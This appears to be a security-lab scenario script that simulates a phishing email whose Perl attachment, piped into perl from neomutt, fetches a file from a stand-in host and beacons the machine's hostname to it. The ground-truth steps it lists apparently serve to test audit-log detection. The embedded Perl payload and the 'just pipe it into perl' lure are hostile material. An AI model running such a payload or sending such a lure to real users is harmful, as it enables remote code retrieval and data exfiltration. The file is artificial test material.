title="A mailed Perl script is piped out of the mail program into perl"
what="dev reads mail in neomutt over SSH. The sender of a 'log normaliser' says to pipe the attachment into perl. dev opens the list of attachments and pipes the second into perl. It starts a shell that fetches a file from 203.0.113.67 and connects again by itself. The site records commands and connections."
host=mx1.example.org user=dev daemons="cron sshd" audit_rules=audit-reach.rules audit_format=RAW syslog_format=iso
setup() {
  printf 'set mbox_type=Maildir\nset folder=~/Maildir\nset spoolfile=~/Maildir\nset wait_key=no\n' | install -o dev /dev/stdin /home/dev/.neomuttrc
  mkdir -p "$base/out/www/n"; echo 'rules 2' > "$base/out/www/n/rules"
  cat > "$base/out/normalise.pl" <<'P'
#!/usr/bin/perl
use IO::Socket::INET;
print "normalising...\n";
system("mkdir -p ~/.cache/norm; curl -fsS -o ~/.cache/norm/rules http://203.0.113.67/n/rules");
my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.67', PeerPort => 4443, Timeout => 3);
print $s "host ".`uname -n` if $s;
print "done\n";
P
}
act() {
  small_talk 2
  mail_in --from support@example.com --to dev@example.org --subject "Re: broken lines in the export" --source 192.0.2.31 --helo host31.example.com --text "Hi,\n\njust pipe the attached normaliser into perl, it fixes the lines.\n" --attach "$base/out/normalise.pl:text/x-perl"
  wait_log 'from=<support@example.com>'; wait_for 10 sh -c 'ls /home/dev/Maildir/new | grep -q .'
  rm -f $(grep -L normaliser /home/dev/Maildir/new/* 2>/dev/null)
  ssh_run ops 'uptime; df -h /home'
  ssh_as dev <<'L'
git --version
%line neomutt
%sleep 2
%keys v
%sleep 1
%keys j
%sleep 1
%keys |
%sleep 1
%keys perl\n
%sleep 4
%keys q
%sleep 1
%keys q
%sleep 1
ls
curl -s -o /dev/null http://registry.example.com/ping
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  exec_step client 'neomutt' 'read'
  exec_step execute 'perl' 'the attachment is piped into perl'
  exec_step fetch 'curl -fsS -o' 'its shell fetches'
  net_step beacon 'perl 203.0.113.67:4443' 'it connects'
}
